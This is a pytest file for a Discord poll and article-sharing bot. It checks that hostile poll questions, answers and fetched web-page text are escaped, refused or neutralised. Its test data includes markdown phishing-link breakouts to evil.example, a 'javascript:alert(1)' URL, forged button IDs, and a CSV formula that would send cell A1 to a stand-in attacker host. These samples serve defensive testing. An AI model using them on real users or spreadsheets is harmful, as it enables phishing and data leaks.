"""What members type (and what pages say) is shown as typed, through discord.py's real
machinery (SimCord): every surface, every hostile input, judged by SimCord's markdown
projection (see tests/markdown_oracle.py). And input that names no poll is refused, not
crashed on."""

from __future__ import annotations

import csv
import io
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import discord
import pytest
from markdown_oracle import HOSTILE, OPTION_HOSTILE, assert_literal, structure, tokens
from test_polls import Card, World, buttons, public, reply_text, text_displays, user_errors

from bot.articles.service import SharedArticle
from bot.config import Settings
from bot.markdown import escape
from cogs.articles import article_embed

# 25 answers (the most a poll takes): `|` can't be typed in one, and `+`/`*` bullets are the
# same rule as `-` ones (the unit tests cover all three).
ANSWERS = [text for name, text in OPTION_HOSTILE.items() if name not in ("plus list", "star list")]
assert len(ANSWERS) == 25
TOO_BIG = 2**63


@pytest.fixture
def settings(db_path, database_url) -> Settings:
    # The article test's page lives on 127.0.0.1, which only ALLOW_PRIVATE_URLS lets the bot fetch.
    return Settings(token=None, database_path=db_path, database_url=database_url, allow_private_urls=True)


@pytest.fixture
def world(env) -> World:
    return World(env)


def _answer(result) -> discord.Message:
    return result.followups[-1] if result.followups else result.response


def _assert_answers_literal(message: discord.Message, answers: list[str]) -> None:
    """The poll message's answers (its second text display: each name in bold on its own
    line, its count below) show every answer as typed, in order."""
    shown = text_displays(message)[1]
    card = Card.of(message)
    assert len(card.fields) == len(answers)
    for (name, _), typed in zip(card.fields, answers, strict=True):
        assert escape(typed) in name
        assert_literal(shown, "text_display", typed)


async def _click_all(world, message, member, count: int) -> list[str]:
    """`member` clicks answers 0…count-1, in batches of 5 (see test_polls.click_in_batches)."""
    replies = []
    for option in range(count):
        result = await member.click(message, custom_id=f"quorum:vote:1:{option}")
        replies.append(reply_text(result))
        if option % 5 == 4:
            await world.env.advance_time(11)
    await world.env.advance_time(11)
    return replies


# ------------------------------------------------------------------ answers, on every surface


async def test_every_hostile_answer_shows_as_typed_on_every_surface(world):
    message = await world.seed_poll(question="Which one?", options=" | ".join(ANSWERS), multiple=True)
    _assert_answers_literal(message, ANSWERS)
    assert [b.label for b in buttons(message)] == [a[:80] for a in ANSWERS]  # plain: no backslash

    replies = await _click_all(world, message, world.alice, len(ANSWERS))
    for reply, typed in zip(replies, ANSWERS, strict=True):
        assert reply.startswith(f"Added **{escape(typed)}**")
        assert_literal(reply, "message", typed)
    for typed in ANSWERS:  # the last reply lists every answer
        assert_literal(replies[-1], "message", typed)
    _assert_answers_literal(public(world.general)[-1], ANSWERS)

    results = await world.mod.slash(world.general, "poll results", poll="1")
    poll_card, voters = results.response.embeds
    assert len(voters.fields) == len(ANSWERS)
    for typed, shown, listed in zip(ANSWERS, poll_card.fields, voters.fields, strict=True):
        assert_literal(shown.name, "embed_field_name", typed)
        assert_literal(listed.name, "embed_field_name", typed)
        assert listed.value == world.alice.mention  # Quorum's own mention, still one

    await world.mod.slash(world.general, "poll close", poll="1")
    announcement = public(world.general)[-1]
    assert "Tie between **1. " in announcement.content  # a 25-way tie names every answer
    result_card = announcement.embeds[0]
    for typed, field in zip(ANSWERS, result_card.fields, strict=True):
        assert_literal(announcement.content, "message", typed)
        assert_literal(result_card.description, "embed_description", typed)
        assert_literal(field.name, "embed_field_name", typed)
    final = text_displays(public(world.general)[0])[0]  # the poll message, closed: its heading
    for typed in ANSWERS:
        assert_literal(final, "text_display", typed)


@pytest.mark.parametrize("typed", ANSWERS[:10], ids=list(OPTION_HOSTILE)[:10])
async def test_single_choice_confirmations_show_the_answer_as_typed(world, typed):
    message = await world.seed_poll(question="Which one?", options=f"{typed} | Plain")
    voted = await world.alice.click(message, custom_id="quorum:vote:1:0")
    assert_literal(reply_text(voted), "message", typed)
    moved = await world.alice.click(message, custom_id="quorum:vote:1:1")
    back = await world.alice.click(message, custom_id="quorum:vote:1:0")
    removed = await world.alice.click(message, custom_id="quorum:vote:1:0")
    assert "Plain" in reply_text(moved)
    for result in (back, removed):
        assert_literal(reply_text(result), "message", typed)


# ------------------------------------------------------------------ the question, on every surface


@pytest.mark.parametrize("typed", HOSTILE.values(), ids=HOSTILE.keys())
async def test_hostile_question_shows_as_typed_on_every_surface(world, typed):
    message = await world.seed_poll(question=typed, options="Yes | No", role=world.mods, duration="1h")
    description = text_displays(message)[0]  # the poll message's heading: title, question, rules
    assert_literal(description, "text_display", typed)
    assert f"<@&{world.mods.id}>" in description and "<t:" in description  # Quorum's own markup

    results = await world.mod.slash(world.general, "poll results", poll="1")
    assert_literal(results.response.embeds[0].description, "embed_description", typed)

    listing = await world.alice.slash(world.general, "poll list")
    text = listing.response.embeds[0].description
    assert_literal(text, "embed_description", typed)
    link = f"https://discord.com/channels/{world.guild.id}/{world.general.id}/{message.id}"
    assert text.startswith(f"**[#1]({link})** ")  # the link's text is Quorum's alone
    assert structure(text, "embed_description").count("link_open") == 1

    export = await world.mod.slash(world.general, "poll export", poll="1")
    assert_literal(_answer(export).content, "message", typed)

    choices = await world.mod.autocomplete(world.general, "poll results", "poll", "")
    assert choices[0]["name"] == f"#1 {typed}"  # plain text: as typed, no backslash

    await world.mod.slash(world.general, "poll close", poll="1")
    assert_literal(public(world.general)[-1].embeds[0].description, "embed_description", typed)
    user_errors(world.env)


async def test_list_link_text_is_quorums_own_even_when_a_question_tries_to_break_out(world):
    await world.seed_poll(question="Lunch?](https://evil.example/phish) [x", options="Yes | No")
    text = (await world.alice.slash(world.general, "poll list")).response.embeds[0].description
    links = [t for t in _flat(text) if t["type"] == "link_open"]
    assert [link["href"] for link in links] == [
        f"https://discord.com/channels/{world.guild.id}/{world.general.id}/{public(world.general)[-1].id}"
    ]
    assert "evil.example" not in "".join(link["href"] for link in links)


def _flat(text: str) -> list[dict]:
    out: list[dict] = []

    def visit(items):
        for token in items:
            out.append(token)
            visit(token.get("children") or [])

    visit(tokens(text, "embed_description"))
    return out


async def test_error_messages_quote_members_text_literally(world):
    duplicate = await world.create(options="[Free Nitro](https://evil.example) | [FREE NITRO](https://evil.example)")
    assert_literal(duplicate.response.content, "message", "[FREE NITRO](https://evil.example)")
    duration = await world.create(duration="**soon** <@&1>")
    assert_literal(duration.response.content, "message", "**soon** <@&1>")
    assert public(world.general) == []
    user_errors(world.env)


# ------------------------------------------------------------------ the export


async def test_export_neutralises_formulas_and_its_message_is_literal(world):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"ok")'
    message = await world.seed_poll(question="**Lunch** <@&1>?", options=f"{formula} | +1 | -1 | @SUM(A1) | Fine")
    for option in range(5):
        await world.env.advance_time(6)
        await [world.alice, world.bob, world.mod, *world.members(2)][option].click(
            message, custom_id=f"quorum:vote:1:{option}"
        )
    export = await world.mod.slash(world.general, "poll export", poll="1")
    answer = _answer(export)
    assert_literal(answer.content, "message", "**Lunch** <@&1>?")
    rows = list(csv.DictReader(io.StringIO((await answer.attachments[0].read()).decode("utf-8-sig"))))
    assert sorted(r["option"] for r in rows) == sorted(["'" + formula, "'+1", "'-1", "'@SUM(A1)", "Fine"])


# ------------------------------------------------------------------ invisible and look-alike input


@pytest.mark.parametrize(
    "options",
    [{"question": "\u200b\u3164"}, {"question": "\u2800 \u00ad"}, {"options": "Yes | \u200b\u2060 | No"},
     {"options": "Yes | \u3164"}, {"options": "Yes | \u0301\ufe0f"}],
    ids=["zwsp question", "braille question", "zwsp answer", "hangul filler answer", "combining answer"],
)  # fmt: skip
async def test_blank_looking_text_is_refused_with_what_to_do(world, options):
    result = await world.create(**options)
    assert result.ephemeral and "no visible text" in result.response.content
    assert "Type the" in result.response.content
    assert public(world.general) == []
    user_errors(world.env)


@pytest.mark.parametrize(
    "options", ["Yes | Yes\u200b", "café | cafe\u0301", "Yes | Ｙｅｓ"], ids=["zwsp", "nfd", "wide"]
)
async def test_answers_that_look_the_same_are_refused(world, options):
    result = await world.create(options=options)
    assert "are the same" in result.response.content
    assert public(world.general) == []
    user_errors(world.env)


async def test_emoji_sequences_are_accepted_and_kept_intact(world):
    family = "👨\u200d👩\u200d👧"
    message = await world.seed_poll(options=f"{family} | 👍🏽 | 👨👩👧")
    assert [b.label for b in buttons(message)] == [family, "👍🏽", "👨👩👧"]
    assert (await world.db.get_by_number(world.guild.id, 1)).options[0] == family


# ------------------------------------------------------------------ references that name no poll


@pytest.mark.parametrize(
    "ref",
    [str(TOO_BIG), "9" * 21, "https://discord.com/channels/{guild}/{channel}/" + "9" * 26,
     "https://discord.com/channels/" + "9" * 26 + "/" + "9" * 26 + "/" + "9" * 26, f"#{TOO_BIG}", "#" + "9" * 30],
    ids=["2^63", "21 digits", "26-digit message link", "26-digit ids link", "#2^63", "#30 digits"],
)  # fmt: skip
async def test_too_large_references_are_an_unknown_poll(world, ref):
    await world.seed_poll()
    ref = ref.format(guild=world.guild.id, channel=world.general.id)
    for command in ("poll results", "poll close", "poll export"):
        result = await world.mod.slash(world.general, command, poll=ref)
        assert result.ephemeral and "There is no poll" in result.response.content, command
    assert all(isinstance(getattr(e, "original", e), LookupError) for e in user_errors(world.env))


@pytest.mark.parametrize("typed", [str(TOO_BIG), "#" + "9" * 30, "9" * 100, "%_\\"])
async def test_autocomplete_with_huge_numbers_does_not_crash(world, typed):
    await world.seed_poll()
    choices = await world.mod.autocomplete(world.general, "poll results", "poll", typed)
    assert choices == []
    assert world.env.errors == []


@pytest.mark.parametrize(
    "custom_id",
    [f"quorum:vote:{TOO_BIG}:0", f"quorum:vote:{'9' * 40}:0", "quorum:vote:1:4", "quorum:vote:1:25",
     f"quorum:vote:1:{TOO_BIG}", "quorum:vote:2:0"],
    ids=["poll 2^63", "poll 40 digits", "option 4 of 4", "option 25", "option 2^63", "no poll 2"],
)  # fmt: skip
async def test_forged_vote_buttons_are_refused_like_an_unknown_poll(world, custom_id):
    message = await world.seed_poll()
    forged = [{"type": 1, "components": [{"type": 2, "style": 2, "label": "x", "custom_id": custom_id}]}]
    world.env.backend.edit_message(world.general.id, message.id, {"components": forged})
    result = await world.alice.click(message, custom_id=custom_id)
    assert result.ephemeral and reply_text(result) == "This poll no longer exists."
    assert (await world.tally()).counts == (0, 0, 0, 0)
    assert world.env.errors == []


# ------------------------------------------------------------------ article embeds


def _article(**overrides) -> SharedArticle:
    values = {
        "url": "https://news.example/a",
        "canonical_url": "https://news.example/a",
        "title": "Title",
        "summary": "Summary.",
        "summary_by": "extractive",
        "author": "Author",
        "published": "2024-01-02",
        "site_name": "Site",
        "image": None,
        "reading_minutes": 3,
    }
    values.update(overrides)
    return SharedArticle(**values)


@pytest.mark.parametrize("typed", HOSTILE.values(), ids=HOSTILE.keys())
def test_article_text_from_the_page_shows_as_typed(typed):
    embed = article_embed(
        _article(title=typed, summary=f"{typed}\n{typed}\n\n{typed}", author=typed, site_name=typed, published=typed),
        shared_by=typed,
    )
    assert_literal(embed.title, "embed_title", typed)
    assert_literal(embed.description, "embed_description", typed)
    assert set(structure(embed.description, "embed_description")) == {"paragraph"}
    site, published = embed.fields[0], embed.fields[1]
    assert (site.name, published.name) == ("Site", "Published")
    assert_literal(site.value, "embed_field_value", typed)
    assert_literal(published.value, "embed_field_value", typed)
    assert embed.author.name == typed  # plain text: as the page has it
    assert embed.footer.text.startswith(f"Shared by {typed} · ")


def test_article_published_date_keeps_quorums_timestamp():
    embed = article_embed(_article(published="2024-01-02T03:04:05Z"), shared_by="m")
    assert embed.fields[1].value == "<t:1704164645:D>"


def test_article_of_markdown_only_text_fits_discords_limits():
    md = "\\*_~`[]<|"
    embed = article_embed(
        _article(title=md * 100, summary=md * 1000, author=md * 100, site_name=md * 500, published=md * 500),
        shared_by="N" * 32,
    )
    assert len(embed) <= 6000
    assert len(embed.title) <= 256 and len(embed.description) <= 4096
    assert all(len(f.value) <= 1024 for f in embed.fields)
    for text in (embed.title, embed.description, embed.fields[0].value, embed.fields[1].value):
        assert text.endswith("…") and (len(text[:-1]) - len(text[:-1].rstrip("\\"))) % 2 == 0


class _HostilePage(BaseHTTPRequestHandler):
    TITLE = "[Free Nitro](https://evil.example/login) **now**"
    SITE = "<@&1> ||News||"
    AUTHOR = "**Mallory** <@1>"
    PARAGRAPH = (
        "Readers say [Free Nitro](https://evil.example/login) is **real**, and <@123> agrees with "
        "@everyone at <t:1700000000:R>; see ||this|| and `that` for ~~more~~ details today. "
    )

    def do_GET(self) -> None:
        paragraphs = "".join(f"<p>{self.PARAGRAPH * 3} Sentence number {i} ends here.</p>" for i in range(12))
        body = (
            "<html><head><meta charset='utf-8'>"
            f"<meta property='og:title' content='{self.TITLE}'>"
            f"<meta property='og:site_name' content='{self.SITE}'>"
            f"<meta name='author' content='{self.AUTHOR}'>"
            f"<title>{self.TITLE}</title></head><body><article><h1>{self.TITLE}</h1>"
            f"{paragraphs}</article></body></html>"
        ).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def hostile_site():
    server = ThreadingHTTPServer(("127.0.0.1", 0), _HostilePage)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


async def test_shared_article_from_a_hostile_page_posts_no_markup_of_the_pages(world, hostile_site):
    result = await world.alice.slash(world.general, "article share", url=f"{hostile_site}/story")
    posted = public(world.general)
    assert len(posted) == 1, reply_text(result)
    embed = posted[0].embeds[0]
    assert_literal(embed.title, "embed_title", _HostilePage.TITLE)
    assert set(structure(embed.description, "embed_description")) == {"paragraph"}  # no markup of the page's
    assert "[Free Nitro](https://evil.example/login)" in embed.description.replace("\\", "")
    site = next(f for f in embed.fields if f.name == "Site")
    assert_literal(site.value, "embed_field_value", _HostilePage.SITE)


@pytest.mark.parametrize(
    "bad",
    ["https://news.example/" + "a" * 3000, "javascript:alert(1)", "https://news.example/a b", "https://x\x00y", ""],
    ids=["too-long", "javascript", "space", "control", "empty"],
)
def test_page_chosen_urls_discord_would_refuse_are_left_out(bad):
    # A page picks its canonical and image URLs; Discord refuses the whole message for a bad one.
    embed = article_embed(_article(canonical_url=bad, image=bad), shared_by="m")
    assert embed.url == "https://news.example/a"  # the page's own address instead
    assert not embed.image.url
    both_bad = article_embed(_article(url=bad, canonical_url=bad), shared_by="m")
    assert both_bad.url is None
